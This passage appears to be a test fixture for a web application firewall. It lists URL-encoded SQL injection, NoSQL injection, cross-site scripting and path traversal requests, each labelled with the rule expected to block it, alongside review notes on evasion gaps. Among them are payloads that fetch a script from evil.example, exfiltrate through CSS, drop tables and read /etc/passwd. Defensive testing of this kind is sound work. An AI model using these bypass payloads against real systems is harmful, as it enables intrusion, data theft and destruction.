    ["/gw/open/search?id=1--1+union%2F**%2Fselect+user%2Cpassword+from+users", "sqli-union"],
    // MySQL 8's table statement, PostgreSQL's other sleeps, calls that break out of a JavaScript string.
    ["/gw/open/search?id=1+union+table+users", "sqli-union"],
    ["/gw/open/search?id=1+union+all+table+users", "sqli-union"],
    ["/gw/open/search?id=1+and+pg_sleep_for(%275+minutes%27)", "sqli-function"],
    ["/gw/open/search?id=1+and+pg_sleep_until(now()%2B%271+hour%27)", "sqli-function"],
    ["/gw/open/search?q=%27-prompt(1)-%27", "xss-dom"],
    ["/gw/open/search?q=%27-confirm(document.domain)-%27", "xss-dom"],
    ["/gw/open/search?q=%27%3Bimport(%27%2F%2Fevil.example%2Fx.js%27)%2F%2F", "xss-dom"],
    // HTTP parameter pollution: ASP.NET joins a repeated key's values with a comma.
    ["/gw/open/search?id=1+union%2F*&id=*%2Fselect+user%2Cpassword+from+users", "sqli-union"],
    // SQL Server runs statements nothing but blanks separates; verbs the stacked rule lacked.
    ["/gw/open/search?id=1+drop+table+users", "sqli-stacked"],
    ["/gw/open/search?id=1+shutdown+with+nowait", "sqli-stacked"],
    ["/gw/open/search?id=1+exec+master..xp_dirtree+%27%5C%5Ca%5Cx%27", "sqli-stacked"],
    ["/gw/open/search?id=1+declare+%40q+varchar(99)+set+%40q%3D%27x%27+exec(%40q)", "sqli-stacked"],
    ["/gw/open/search?id=1%3Bcopy+t+to+program+%27id%27", "sqli-stacked"],
    ["/gw/open/search?id=1%3Bcreate+user+eve+with+password+%27x%27", "sqli-stacked"],
    ["/gw/open/search?id=1%3Breplace+into+users+values(1%2C%27eve%27)", "sqli-stacked"],
    ["/gw/open/search?id=1%3Bset+global+general_log%3D%27on%27", "sqli-stacked"],
    ["/gw/open/search?id=1%3Bload+data+local+infile+%27%2Fetc%2Fhosts%27+into+table+t", "sqli-stacked"],
    // The corpus review: ASP.NET's HttpUtility.UrlDecode (Request.QueryString, Request.Form) and IIS decode %uXXXX.
    ["/gw/open/search?q=%u003cscript%u003eprompt(1)", "xss-script"],
    ["/gw/open/files?f=%u002e%u002e%u002fetc%u002fpasswd", "traversal-dotdot"],
    // A login query written with parentheses: WHERE (user = '…') AND (pass = '…').
    ["/gw/open/search?u=admin%27)--+-", "sqli-comment"],
    // A word operator glued to the quotes: MySQL reads `'' OR 'x'LIKE'x'` as true for every row.
    ["/gw/open/search?u=%27+OR+%27x%27LIKE%27x", "sqli-tautology"],
    // A LIKE pattern that matches anything, closed by the query's own quote: `'' or 'x' like '%'`.
    ["/gw/open/search?u=admin%27+or+%27x%27+like+%27%25", "sqli-tautology"],
    // Blind extraction after a quote: a call compared, then a comment.
    ["/gw/open/search?u=admin%27+AND+length(password)%3E5--", "sqli-tautology"],
    // A name's or call's between/in before a comment, a `;` before the comment, a comment inside the comparison.
    ["/gw/open/search?u=%27+or+id+between+1+and+2--", "sqli-tautology"],
    ["/gw/open/search?u=%27+and+ascii(substr(pw,1,1))+in+(65)--", "sqli-tautology"],
    ["/gw/open/search?u=%27+AND+LENGTH(password)%3E5%3B--", "sqli-tautology"],
    ["/gw/open/search?u=%27+or+id%2F**%2F%3E0--", "sqli-tautology"],
    ["/gw/open/search?u=%27+AND+length%2F**%2F(password)%3E5--", "sqli-tautology"],
    // Oracle's error-based probe: a subquery reading a catalog view whose name holds a `$`.
    ["/gw/open/search?id=1+and+1%3D(select+banner+from+v$version+where+rownum%3D1)", "sqli-subquery"],
    ["/gw/open/search?id=1%3Bwaitfor+time+%2723%3A59%27", "sqli-function"],
    // A lone 0xA0 is a blank to MySQL on a latin1 connection (sqlmap's space2mysqlblank).
    ["/gw/open/search?id=1%a0union%a0select%a0password%a0from%a0users", "sqli-union"],
    // MySQL's statement prepared from a hex variable, SQLite's attached file (a web shell's first step), a UDF.
    ["/gw/open/search?id=1%3Bset+%40q%3D0x73656c656374%3Bprepare+s+from+%40q%3Bexecute+s", "sqli-stacked"],
    ["/gw/open/search?id=1%3Battach+database+%27%2Fvar%2Fwww%2Fx.php%27+as+x", "sqli-stacked"],
    ["/gw/open/search?id=1%3Bcreate+function+sys_eval+returns+string+soname+%27x.so%27", "sqli-stacked"],
    // Blind injection reads a table one comparison at a time through a subquery.
    ["/gw/open/search?id=1+and+ascii(substring((select+password+from+users+limit+1)%2C1%2C1))%3E64", "sqli-subquery"],
    ["/gw/open/search?id=1+AND+1%3D(SELECT+1+FROM+users+WHERE+name%3D%27admin%27)", "sqli-subquery"],
    ["/gw/open/search?u=%27+or+1+rlike+1--+-", "sqli-tautology"],
    ["/gw/open/search?u=%27+or+%271", "sqli-tautology"],
    ["/gw/open/search?u=%27%3D0--+-", "sqli-tautology"],
    ["/gw/open/search?u=%27+or+%24%24a%24%24%3D%24%24a%24%24--+-", "sqli-tautology"],
    ["/gw/open/search?id=1+and+1%3Ddbms_pipe.receive_message((%27a%27)%2C5)", "sqli-function"],
    // The gaps review: a create with a modifier before its object.
    ["/gw/open/search?id=1%3Bcreate+temporary+table+t(a+text)", "sqli-stacked"],
    ["/gw/open/search?id=1%3Bcreate+table+if+not+exists+t(a+text)", "sqli-stacked"],
    ["/gw/open/search?id=1%3Bcreate+definer%3D%60root%60%40%60%25%60+trigger+t+before+insert+on+users+for+each+row+set+new.role%3D%27admin%27", "sqli-stacked"],
    ["/gw/open/search?id=1+and+1%3D%22DBMS_PIPE%22.%22RECEIVE_MESSAGE%22((%27a%27)%2C5)", "sqli-function"],
    ["/gw/open/search?id=1+and+1%3Dlike(%27abc%27%2Cupper(hex(randomblob(500000000%2F2))))", "sqli-function"],
    ["/gw/open/search?id=1+and+get_lock(%27x%27%2C5)", "sqli-function"],
    ["/gw/open/search?id=1+union+values+(1%2C%27a%27)", "sqli-union"],
    ["/gw/open/search?id=1%3B+select+password+from+users", "sqli-stacked"],
    // Windows' best-fit mapping (PHP and CGI on the ANSI file APIs) and NFKC read the fullwidth forms as ../
    ["/gw/open/files?f=%EF%BC%8E%EF%BC%8E%EF%BC%8F%EF%BC%8E%EF%BC%8E%EF%BC%8Fsecret.txt", "traversal-dotdot"],
    // The second review of the gaps: SQLite's glob glued to a quote (a login bypass in D1), an assignment after a
    // decimal in one set, a ')' inside a stacked select's string.
    ["/gw/open/search?u=admin%27glob%27*%27)--", "sqli-comment"],
    ["/gw/open/search?id=1%3Bset+%40x%3D1%2Cglobal+general_log%3D1", "sqli-stacked"],
    ["/gw/open/search?id=1%3Bselect+%27)%27%2Cpw+from+users", "sqli-stacked"],
    // The residual misses' review: numeric blind injection without a subquery, a null test after a closing quote,
    // the column count before a union, MongoDB operators in a form's keys, a column's pattern in an open string,
    // comment markers inside a string.
    ["/gw/open/search?id=1)+or+(1%3D1", "sqli-tautology"],
    ["/gw/open/search?id=1+and+1%3D2", "sqli-tautology"],
    ["/gw/open/search?id=1+and+ascii(substr(user()%2C1%2C1))%3E64", "sqli-tautology"],
    ["/gw/open/search?u=%27+is+not+null+or+%27x%27%3D%27y", "sqli-tautology"],
    ["/gw/open/search?id=1+order+by+5--", "sqli-order-by"],
    ["/gw/open/search?u=x%27+order+by+5--+-", "sqli-order-by"],
    ["/gw/open/search?user%5B%24ne%5D=x&password%5B%24ne%5D=x", "sqli-nosql"],
    ["/gw/open/search?user=admin&password[$gt]=", "sqli-nosql"],
    ["/gw/open/search?u=%27+or+password+regexp+%27%5Ea", "sqli-tautology"],
    ["/gw/open/search?u=%27+or+%27a--%27%3D%27a--", "sqli-tautology"],
    // Their second review: SQL Server's `delete from <alias> from <table>` and the target named before `from`,
    // `$not`, a parent segment after a line break, the column count as a list or by `group by`, a blind function
    // wrapped in another call, a column's pattern after a number.
    ["/gw/open/search?id=1%3Bdelete+from+a+from+users+a", "sqli-stacked"],
    ["/gw/open/search?id=1%3Bdelete+u+from+users+u", "sqli-stacked"],
    ["/gw/open/search?id=1%3Bdelete+quick+from+users", "sqli-stacked"],
    ["/gw/open/search?password%5B%24not%5D%5B%24eq%5D=x", "sqli-nosql"],
    ["/gw/open/search?f=a%0A..%2Fsecret", "traversal-dotdot"],
    ["/gw/open/search?id=1+ORDER+BY+1%2C2%2C3--", "sqli-order-by"],
    ["/gw/open/search?id=1+group+by+5", "sqli-order-by"],
    ["/gw/open/search?id=1+and+greatest(ascii(mid(user()%2C1%2C1))%2C0)%3E64", "sqli-tautology"],
    ["/gw/open/search?id=1+and+password+like+%27a%25%27", "sqli-tautology"],
    // Their third review: CASE WHEN, SQL Server's iif, MySQL's find_in_set uncompared, a digest compared with a
    // string, a blind call's range, `sounds like`, error-based casts and calls; MongoDB operators past a key's first
    // bracket; CSS injection.
    [`/gw/open/search?id=${encodeURIComponent("1 and 1=(case when 1=1 then 1 else 0 end)")}`, "sqli-tautology"],
    [`/gw/open/search?sort=${encodeURIComponent("(case when (1=1) then id else name end)")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and iif(1=1,1,0)=1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and find_in_set('r',user())")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and md5(password)>'5'")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and length(database()) between 1 and 9")}`, "sqli-tautology"],
    [`/gw/open/search?u=${encodeURIComponent("x' or 'a' sounds like 'a")}`, "sqli-tautology"],
    [`/gw/open/search?u=${encodeURIComponent("x' and 1=cast(user() as int)--")}`, "sqli-tautology"],
    [`/gw/open/search?u=${encodeURIComponent("x' and gtid_subset(user(),1)--")}`, "sqli-tautology"],
    [`/gw/open/search?u=${encodeURIComponent("x' or 1 in (1) or '")}`, "sqli-tautology"],
    ["/gw/open/search?filter[user][$ne]=x", "sqli-nosql"],
    ["/gw/open/search?a%5Bb%5D%5B%24gt%5D=", "sqli-nosql"],
    [`/gw/open/search?filter=${encodeURIComponent('{"user":{"$ne":null}}')}`, "sqli-nosql"],
    [`/gw/open/search?q=${encodeURIComponent("<style>input[value^=a]{background:url(//x.example/a)}</style>")}`, "xss-style"],
    [`/gw/open/search?q=${encodeURIComponent("<link rel=stylesheet href=//x.example/a.css>")}`, "xss-style"],
    [`/gw/open/search?q=${encodeURIComponent("@import url(//x.example/a.css);")}`, "xss-style"],
    // Their fourth review: a `>` in a quoted attribute, attributes padding `href`, a word for an attribute before a
    // rule, a URL's leading blank, a CSS comment; MongoDB's top-level `$where` as a query key.
    [`/gw/open/search?q=${encodeURIComponent('<link title=">" href=//x.example/a.css>')}`, "xss-style"],
    [`/gw/open/search?q=${encodeURIComponent(`<link rel=stylesheet data-a=${"a".repeat(200)} href=//x.example/a.css>`)}`, "xss-style"],
    [`/gw/open/search?q=${encodeURIComponent("<style x>input[value^=a]{background:url(//x.example/a)}</style>")}`, "xss-style"],
    [`/gw/open/search?q=${encodeURIComponent("@import ' //x.example/a.css';")}`, "xss-style"],
    [`/gw/open/search?q=${encodeURIComponent("@import/**/url(//x.example/a.css);")}`, "xss-style"],
    [`/gw/open/search?${encodeURIComponent("$where")}=${encodeURIComponent("this.password.length>0")}`, "sqli-nosql"],
    // Their fifth review: CSS escapes spelling `@import` and `url(//`; a bare `case when … end` sort key; `having`
    // appended (the error-based `group by … having` probe, SQL Server's `' having 1=1--`); literal predicates that
    // end a numeric injection with no comment.
    [`/gw/open/search?q=${encodeURIComponent("@\\69mport url(//x.example/a.css);")}`, "xss-style"],
    [`/gw/open/search?q=${encodeURIComponent("@import u\\72l(//x.example/a.css);")}`, "xss-style"],
    [`/gw/open/search?q=${encodeURIComponent("@import url(\\2f\\2fx.example/a.css);")}`, "xss-style"],
    [`/gw/open/search?sort=${encodeURIComponent("case when 1=1 then id else name end")}`, "sqli-tautology"],
    [`/gw/open/search?u=${encodeURIComponent("x' or 1 group by concat(user(),floor(rand(0)*2)) having min(0)#")}`, "sqli-order-by"],
    [`/gw/open/search?u=${encodeURIComponent("x' having 1=1--")}`, "sqli-order-by"],
    ["/gw/open/search?id=1+and+true", "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1 in (1)")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1=1e0")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and char(97)=char(97)")}`, "sqli-tautology"],
    // MySQL resolves a quoted name before `(` against its native functions (SLEEP is one): `sleep`(5) sleeps.
    [`/gw/open/search?u=${encodeURIComponent("x' and `sleep`(5)#")}`, "sqli-function"],
    // Their sixth review: a blind function's name quoted as sleep's was; IE's CSS expression spelled with CSS escapes
    // or a comment; literal predicates ending a numeric injection (a range, a null test, `not`); a `<link` whose
    // attributes run past the tag's window before `href=`.
    [`/gw/open/search?id=${encodeURIComponent("1 and `ascii`(substring(user(),1,1))>64")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent('1 and "ascii"(substring(user(),1,1))>64')}`, "sqli-tautology"],
    [`/gw/open/search?q=${encodeURIComponent('<p style="width:e\\78pression(x)">')}`, "xss-dom"],
    [`/gw/open/search?q=${encodeURIComponent('<p style="width:ex/**/pression(x)">')}`, "xss-dom"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1 between 0 and 2")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1 is not null")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and not 0")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 or not 1=2")}`, "sqli-tautology"],
    [`/gw/open/search?q=${encodeURIComponent(`<link rel=stylesheet ${"a=b ".repeat(300)}href=//x.example/a.css>`)}`, "xss-style"],
    // Their other spellings: a comment after the predicate, MySQL's `is true`, `null is null`, `not(0)` and `!0`.
    [`/gw/open/search?id=${encodeURIComponent("1 and not 1=2-- -")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1 is true")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and null is null")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and not(0)")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and !0")}`, "sqli-tautology"],
    // Their seventh review: a Mongo operator under a nested `filters` (Strapi's sits at the top or under
    // `populate[…]`), a quoted blind function with a blank before its `(`, numbers spelled with a fraction, an
    // exponent or in hexadecimal, predicates with literals chained after them, IE's and old Firefox's script bindings.
    ["/gw/open/search?user[filters][$ne]=x", "sqli-nosql"],
    ["/gw/open/search?user[filters][a][$ne]=x", "sqli-nosql"],
    [`/gw/open/search?id=${encodeURIComponent('1 and "ascii" (substring(user(),1,1))>64')}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent('1 and "ascii" (substring(user(),1,1)) between 64 and 128')}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1.0 between 0 and 2")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1 between 0 and 2e0")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1 between 0x0 and 2")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1 between 0 and 2 and 1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1 is not null and 1")}`, "sqli-tautology"],
    [`/gw/open/search?q=${encodeURIComponent('<p style="behavior:url(x.htc)">')}`, "xss-dom"],
    [`/gw/open/search?q=${encodeURIComponent('<div style="-moz-binding:url(//x.example/x.xml#xss)">')}`, "xss-dom"],
    // Their second look: signed numbers, a chain of any length or glued to its parenthesis, IE6's underscore hack.
    [`/gw/open/search?id=${encodeURIComponent("1 and -1 between -2 and 0")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and not -0")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1 between 0 and +2")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent(`1 and 1 between 0 and 2${" and 1".repeat(9)}`)}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1 is not null and(1)")}`, "sqli-tautology"],
    [`/gw/open/search?q=${encodeURIComponent('<p style="_behavior:url(x.htc)">')}`, "xss-dom"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1 not between 2 and 3")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1 between (0) and (2)")}`, "sqli-tautology"],
    // Its review: a value's signed or spelled number, signed comparison operands, xor, symmetric, a blank after a sign.
    [`/gw/open/search?id=${encodeURIComponent("-1 and 1=2")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1.0 and 1 between 0 and 2")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1=-1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and ascii(substr(user(),1,1))>-1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1 between 0 and 2 xor 0")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1 between symmetric 2 and 0")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and - 1 between -2 and 0")}`, "sqli-tautology"],
    // The eighth review: constants SQL folds (stacked signs, parentheses, arithmetic, `~`, hexadecimal), a quoted
    // call spaced from its `(` and a chain after it, and a chain of literals before a comment.
    [`/gw/open/search?id=${encodeURIComponent("-(-1) is true")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("--1 or 1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and -(-1)=1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1-1=0")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 or 2*3=6")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent('1 and "ascii" (substr(user(),1,1)) >64 and 1')}`, "sqli-tautology"],
    [`/gw/open/search?t=${encodeURIComponent('"sleep" (5)')}`, "sqli-function"],
    [`/gw/open/search?t=${encodeURIComponent("`sleep` (5)")}`, "sqli-function"],
    [`/gw/open/search?t=${encodeURIComponent('"benchmark" (1000000,md5(1))')}`, "sqli-function"],
    [`/gw/open/search?id=${encodeURIComponent("1 and ~0")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 0x1=1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("(1) and 1=1")}`, "sqli-tautology"],
    [`/gw/open/search?u=${encodeURIComponent("' or -1--")}`, "sqli-tautology"],
    [`/gw/open/search?u=${encodeURIComponent("' and ascii(substr(user(),1,1))>64 and 1--")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and true and 1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1 in (1) and 1")}`, "sqli-tautology"],
    // The eighth review's leftovers: MySQL's div and mod, a chain after `not 0` before the comment, a constant
    // subquery compared with a number.
    [`/gw/open/search?id=${encodeURIComponent("1 and 1 div 1=1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 5 mod 2=1")}`, "sqli-tautology"],
    [`/gw/open/search?u=${encodeURIComponent("' or not 0 and 1--")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1=(select 1)")}`, "sqli-subquery"],
    [`/gw/open/search?id=${encodeURIComponent("1 and b'1'=1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 1 div(1)=1")}`, "sqli-tautology"],
    // The ninth review: a hexadecimal string literal, a constant expression starting with a parenthesis, a blind
    // probe as the whole value, MySQL's make_set/elt picking by a condition.
    [`/gw/open/search?id=${encodeURIComponent("1 and x'01'=1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and X'01'=1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and (1)/(1)=1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 or (2)*(3)=6")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("ascii(substr(user(),1,1))>64 and 1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("length(database())>1 and 1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("ord(mid(version(),1,1))>51")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("make_set(1=1,5)")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("-1 or elt(1=1,5)")}`, "sqli-tautology"],
    // A chain of literals before the condition, a negated list or range.
    [`/gw/open/search?id=${encodeURIComponent("1 and 1 and 1=1")}`, "sqli-tautology"],
    [`/gw/open/search?u=${encodeURIComponent("' and 1 and 1=1--")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and length(user()) not in (1)")}`, "sqli-tautology"],
    // sqlmap's parameter replaced by a condition multiplied by a number.
    [`/gw/open/search?id=${encodeURIComponent("(1234=1234)*5678")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("`ascii`(substr(user(),1,1))>64")}`, "sqli-tautology"],
    // The tenth review: MySQL's if() reading the server's data as the whole value; a value kept by glued arithmetic.
    [`/gw/open/search?id=${encodeURIComponent("if(ascii(substr(user(),1,1))>64,1,0)")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1-0 and 1=1")}`, "sqli-tautology"],
    // Its review: a literal's in-list holding a call that reads the server's data (read to its own `)`), sqlmap's
    // RLIKE probe, the account named without parentheses, PostgreSQL's pg_catalog-qualified version().
    [`/gw/open/search?id=${encodeURIComponent("1 and 1 in (ascii(substr(user(),1,1)))")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 rlike if(1=1,1,0x28)")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("if(ascii(substr(current_user,1,1))>64,1,0)")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("length(pg_catalog.version())>1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("if(user() like 'r%',1,0)")}`, "sqli-tautology"],
    // The eleventh review: sqlmap's (N=N)*N spaced, nested, its factor in parentheses; a column read a character at a
    // time in a literal's list; the whole-value if() with sqlmap's `and N=N` after it.
    [`/gw/open/search?id=${encodeURIComponent("(1234 = 1234)*5678")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("((1234=1234))*5678")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("(1234=1234)*(5678)")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 97 in (ascii(substr(password,1,1)))")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("if(ascii(substr(user(),1,1))>64,1,0) and 1=1")}`, "sqli-tautology"],
    // Coverage only (already refused at c552d93, by the sleep call): time probes concatenated into a quoted value.
    [`/gw/open/search?q=${encodeURIComponent("'+if(1=1,sleep(5),0)+'")}`, "sqli-function"],
    [`/gw/open/search?q=${encodeURIComponent("'||(select case when 1=1 then pg_sleep(5) else 0 end)||'")}`, "sqli-function"],
    [`/gw/open/search?q=%27%2b(select*from(select(sleep(5)))a)%2b%27`, "sqli-function"],
    // The eleventh review's review: a probe before a word SQL reads there (SQLite's glob, SQL Server's next statement
    // of the batch, which needs no `;`), and sqlmap's `and N=N` suffix spelled by hand.
    [`/gw/open/search?id=${encodeURIComponent("1 and 5=5 glob 1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 5=5 select password from users")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 5=5 print 1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("if(ascii(substr(user(),1,1))>64,1,0) and 1 = 1.0")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("if(ascii(substr(user(),1,1))>64,1,0) and 0x1=1")}`, "sqli-tautology"],
    // The twelfth review: a quote glued to `or` before a string MySQL reads as 1, two names compared, a list of one
    // blind call of a column, a number glued to a keyword, and IIS's `%u` escape of DIVISION SLASH.
    ["/gw/open/search?id=%27or%271=1", "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 OR x=y")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 5 in (length(password))")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 5=5.0limit 1")}`, "sqli-tautology"],
    ["/gw/open/search?f=..%u2215..%u2215etc%u2215passwd", "traversal-dotdot"],
    // Its review: a blank before the open string's comparison (`'1 =1'` is 1 too), and the private-use separator
    // CRS's rule 930100 lists beside `%u2215`.
    [`/gw/open/search?id=${encodeURIComponent("'or'1 =1")}`, "sqli-tautology"],
    ["/gw/open/search?f=..%uEFC8..%uEFC8etc%uEFC8passwd", "traversal-dotdot"],
    // The WAF's known gaps: arithmetic on a blind call, a negated list of one, a string, `true` or a variable before
    // the list, and a blank between `1.e` and its `(`.
    [`/gw/open/search?id=${encodeURIComponent("1 and 5 in (length(password)+0)")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and length(password)+0>5")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 5 not in (length(password))")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 'a' in (substr(password,1,1))")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and true in (length(password))")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and @x in (length(password))")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and sleep 1.e (5)")}`, "sqli-function"],
    // MySQL's `div` and `mod` on a blind call or before a subquery, and arithmetic on the whole value's probe.
    [`/gw/open/search?id=${encodeURIComponent("1 div (select length(password) from users)")}`, "sqli-subquery"],
    [`/gw/open/search?id=${encodeURIComponent("1 and length(password) div 1>5")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and ascii(substr(password,1,1)) mod 256>64")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("length(database())+0>1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("length(database()) div 1>1")}`, "sqli-tautology"],
    // Their review: the operators in capitals, past comments and line breaks, glued, and MySQL's mod() as a call.
    [`/gw/open/search?id=${encodeURIComponent("1 DIV (SELECT length(password) FROM users)")}`, "sqli-subquery"],
    [`/gw/open/search?id=${encodeURIComponent("1\ndiv\n(select length(password) from users)")}`, "sqli-subquery"],
    [`/gw/open/search?id=${encodeURIComponent("-1 and 1mod(select 1)")}`, "sqli-subquery"],
    [`/gw/open/search?id=${encodeURIComponent("1 and length(password)/**/div/**/1>5")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and length(password)\nmod\n2=1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and mod(length(password),2)=1")}`, "sqli-tautology"],
    // Stop 43's WAF review: the whole value's probe inside a numeric function, a number in parentheses after `div`
    // or `mod`, a number and arithmetic before the blind call (and the review's forms the rules already read).
    [`/gw/open/search?id=${encodeURIComponent("mod(length(database()),2)=1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("abs(length(database()))>1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("round(length(database()),0)>1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and length(database()) div (1)>1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and ascii(substr(password,1,1)) mod (256)>64")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 5 div length(password)>0")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 5+length(password)>0")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("0+length(database())>1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and abs(length(database()))>1")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("1 and 5 div (1)=5")}`, "sqli-tautology"],
    // Its review: a word's or a literal's `<` before a tag-shaped `>` compares (`(0<1)>(select …)`), passed on h_waf-work.
    [`/gw/open/search?id=${encodeURIComponent("false<true>(select count(*) from users where password like 'a%')")}`, "sqli-subquery"],
    [`/gw/open/search?id=${encodeURIComponent("1' and x<a>(select password from users limit 1)-- ")}`, "sqli-subquery"],
    [`/gw/open/search?id=${encodeURIComponent("1 and {x 0}<true>(select 0)")}`, "sqli-subquery"],
    // And a sign before the blind call after arithmetic, or before the whole value's number (passed on h_waf-work).
    [`/gw/open/search?id=${encodeURIComponent("1 and 5+-length(database())<0")}`, "sqli-tautology"],
    [`/gw/open/search?id=${encodeURIComponent("-5+length(database())>1")}`, "sqli-tautology"],
    // The normalisation review: a `+` decoding left is a space to an origin that decodes the value again (PHP's
    // urldecode, Java's URLDecoder); qs joins a key's indexed values into one array; NFKC's small forms,
    // mathematical letters, long s and two-dot leader (passed on 6255d05).
    ["/gw/open/search?q=1%2Bunion%2Bselect%2Bpassword%2Bfrom%2Busers", "sqli-union"],
    ["/gw/open/search?id%5B0%5D=1+union%2F*&id%5B1%5D=*%2Fselect+password+from+users", "sqli-union"],
    ["/gw/open/search?q=%EF%B9%A4script%EF%B9%A5prompt(1)", "xss-script"],
